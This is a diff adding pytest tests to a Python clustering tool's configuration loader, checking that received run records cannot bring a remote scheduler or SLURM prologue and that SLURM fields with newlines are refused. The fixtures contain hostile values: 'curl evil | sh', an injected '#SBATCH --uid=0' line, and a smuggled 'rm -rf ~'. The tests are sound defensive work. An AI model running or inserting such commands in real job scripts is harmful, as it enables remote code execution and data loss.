@@ -4,6 +4,7 @@ import json
 import pytest
 
 from bigseg import RunConfig
+from bigseg.config import WHERE_KEYS
 from bigseg.errors import ConfigError
 
 
@@ -60,7 +61,7 @@ def test_defaults_yaml_env_keywords_precedence(tmp_path):
         ("predict: {model: kmeans, probabilities: true}", "`predict.probabilities` false with predict.model 'kmeans'"),
         ("slurm: {cores: -1}", "`slurm.cores` to be a positive integer"),
         ("slurm: {jobs: 0}", "`slurm.jobs`"),
-        ("slurm: {memory: 64}", "`slurm.memory` to be text"),
+        ("slurm: {memory: 64}", "`slurm.memory` to be one line of text"),
         ("slurm: {memory: sixty}", "`slurm.memory` to be a memory size such as '64GiB'. Got 'sixty'"),  # a traceback
         ("slurm: {walltime: 2 hours}", "`slurm.walltime` to be SLURM time"),
         ("slurm: {cores: 4, processes: 8}", r"`slurm.processes` at most slurm.cores \(4"),  # --nthreads 0 workers
@@ -218,3 +219,26 @@ def test_a_run_record_is_a_configuration(tmp_path):
     (tmp_path / "run.json").write_text(json.dumps({"source": "/x.npy", "bigseg": "0.1.0", "config": recorded,
                                                    "environment": {"bigseg": "0.1.0"}}))
     assert RunConfig.load(tmp_path / "run.json", environ={}).values == recorded
+
+
+def test_a_run_record_brings_what_not_where(tmp_path):
+    """A received run.json given as --config (the "run again" line) brought its cluster: a
+    scheduler address anywhere (dask trusts its peers: code and data go there) or a SLURM prologue;
+    now the settings of the results only, where it runs this machine's."""
+    recorded = RunConfig.load(environ={}, chunks=16, cluster="tcp://203.0.113.5:8786", n_workers=7,
+                              slurm={"queue": "gpu", "job_script_prologue": ["curl evil | sh"]}).values
+    (tmp_path / "run.json").write_text(json.dumps({"source": "/x.npy", "config": recorded, "environment": {}}))
+    got = RunConfig.load(tmp_path / "run.json", environ={}).values
+    defaults = RunConfig.load(environ={}).values
+    assert got["chunks"] == 16 and all(got[k] == defaults[k] for k in WHERE_KEYS)
+    assert RunConfig.load(tmp_path / "run.json", environ={"BIGSEG_CLUSTER": "local"}).cluster == "local"
+
+
+def test_slurm_text_with_a_newline_is_refused():
+    # a queue "gpu\n#SBATCH --uid=0" (or a prologue item of two lines) added lines to the job script
+    for slurm in ({"queue": "gpu\n#SBATCH --uid=0"}, {"job_name": "a\rb"},
+                  {"job_script_prologue": ["module load x", "echo a\nrm -rf ~"]}):
+        key = next(iter(slurm))
+        with pytest.raises(ConfigError, match=f"`slurm.{key}`"):
+            RunConfig.load(environ={}, slurm=slurm)
+    assert RunConfig.load(environ={}, slurm={"queue": "gpu", "job_script_prologue": ["module load x"]})
